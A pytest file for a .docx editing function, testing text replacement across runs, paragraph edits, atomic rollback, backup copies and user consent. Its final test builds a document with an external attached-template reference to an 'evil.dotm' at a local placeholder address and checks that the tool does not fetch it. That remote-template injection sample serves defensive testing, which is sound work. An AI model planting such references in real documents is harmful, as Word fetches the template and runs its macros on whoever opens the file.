import io
import zipfile

import docx
import pytest
from documents import edited, question_of

GREETING = "Dear Ms Lindqvist, 亲爱的林女士"


def letter(path):
    document = docx.Document()
    document.add_heading("Letter 信", 1)
    paragraph = document.add_paragraph("Dear Ms ")
    paragraph.add_run("Lind").bold = True
    paragraph.add_run("qvist, 亲爱的")
    paragraph.add_run("林女士").italic = True
    document.add_paragraph("The rent is 900 euros.")
    table = document.add_table(1, 2)
    table.cell(0, 0).text = "rent"
    table.cell(0, 1).text = "900 euros"
    document.sections[0].header.paragraphs[0].text = "900 euros, page 1"
    document.save(path)


def texts(path):
    return [each.text for each in docx.Document(path).paragraphs]


@pytest.fixture
def path(tmp_path):
    (tmp_path / "docs").mkdir()
    letter(tmp_path / "docs/letter.docx")
    return tmp_path / "docs/letter.docx"


def test_without_changes_it_shows_what_is_there_and_asks_nothing(path):
    result, questions = edited(path, [])
    assert result.text.splitlines() == [
        "1 Letter 信",
        f"2 {GREETING}",
        "3 The rent is 900 euros.",
        "Table 1:",
        "rent\t900 euros",
    ]
    assert questions == []


def test_a_text_is_replaced_everywhere_also_across_runs_and_formatting_stays(path):
    result, _ = edited(
        path,
        [
            {"action": "replace", "old": "Ms Lindqvist, 亲爱的林", "text": "Mr Berg, 亲爱的柏"},
            {"action": "replace", "old": "900", "text": "950"},
        ],
    )
    assert "replaced '900' in 3 places" in result.text
    changed = docx.Document(path)
    assert changed.paragraphs[1].text == "Dear Mr Berg, 亲爱的柏女士"
    assert [run.text for run in changed.paragraphs[1].runs if run.italic] == ["女士"]
    assert changed.tables[0].cell(0, 1).text == "950 euros"
    assert changed.sections[0].header.paragraphs[0].text == "950 euros, page 1"


def test_what_replaces_may_hold_what_is_replaced(path):
    edited(path, [{"action": "replace", "old": "rent", "text": "rent and rental"}])
    assert texts(path)[2] == "The rent and rental is 900 euros."


def test_paragraphs_are_inserted_deleted_and_appended_by_their_numbers_of_before(path):
    edited(
        path,
        [
            {"action": "insert", "at": "3", "text": "First."},
            {"action": "delete", "at": "3"},
            {"action": "append", "text": "Yours", "at": "Heading 2"},
        ],
    )
    assert texts(path) == ["Letter 信", GREETING, "First.", "Yours"]
    assert docx.Document(path).paragraphs[3].style.name == "Heading 2"


@pytest.mark.parametrize(
    ("change", "told"),
    [
        ({"action": "replace", "old": "absent", "text": "x"}, "does not occur"),
        ({"action": "replace", "old": "", "text": "x"}, "does not occur"),
        ({"action": "delete", "at": "99"}, "there is no paragraph '99'"),
        ({"action": "append", "at": "No such style", "text": "x"}, "it has no style"),
        ({"action": "set", "at": "B2", "text": "x"}, "is for workbooks"),
        ({"action": "burn", "text": "x"}, "action"),
    ],
)
def test_one_change_that_can_not_be_made_leaves_all_as_it_was(path, change, told):
    before = path.read_bytes()
    result, questions = edited(path, [{"action": "replace", "old": "900", "text": "950"}, change])
    assert result.error
    assert told in result.text
    assert (path.read_bytes(), questions) == (before, [])


def test_what_it_was_before_is_kept(path):
    before = path.read_bytes()
    result, _ = edited(path, [{"action": "append", "text": "More."}])
    (copy,) = (path.parent.parent / "data/copies").iterdir()
    assert copy.read_bytes() == before
    assert str(copy) in result.text
    for _ in range(3):
        edited(path, [{"action": "append", "text": "More."}], copies=2)
    assert len(list((path.parent.parent / "data/copies").iterdir())) == 2


def test_the_person_is_asked_and_a_no_leaves_it_as_it_was(path):
    before = path.read_bytes()
    result, questions = edited(path, [{"action": "append", "text": "More."}], consent=False)
    assert result.error
    assert path.read_bytes() == before
    assert "append 'More.'" in question_of(questions)
    assert not (path.parent.parent / "data/copies").exists()


def test_a_template_on_another_machine_is_not_fetched(path):
    # Word would fetch it and run its macros. Here it stays a line in the document.
    rels = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
    data = path.read_bytes()
    changed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(changed, "w") as new:
        for part in old.infolist():
            if part.filename != "word/_rels/settings.xml.rels":
                new.writestr(part, old.read(part))
        new.writestr("word/_rels/settings.xml.rels", rels)
    path.write_bytes(changed.getvalue())
    result, _ = edited(path, [{"action": "append", "text": "More."}])
    assert not result.error
    assert texts(path)[-1] == "More."
